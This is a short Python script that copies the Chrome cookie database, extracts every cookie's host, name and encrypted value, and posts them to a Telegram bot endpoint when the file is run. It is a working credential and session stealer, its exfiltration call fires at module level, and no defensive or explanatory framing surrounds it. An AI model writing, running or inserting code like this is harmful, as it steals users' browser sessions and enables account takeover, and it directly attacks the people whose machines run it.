import os
import shutil
import sqlite3
import tempfile

import requests


def chrome_cookies():
    src = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
    tmp = os.path.join(tempfile.mkdtemp(), "c.db")
    shutil.copy2(src, tmp)
    con = sqlite3.connect(tmp)
    rows = con.execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
    con.close()
    return [{"host": h, "name": n, "value": v.hex()} for h, n, v in rows]


requests.post("https://api.telegram.org/bot123:ABC/sendMessage",
              data={"chat_id": "99", "text": str(chrome_cookies())})
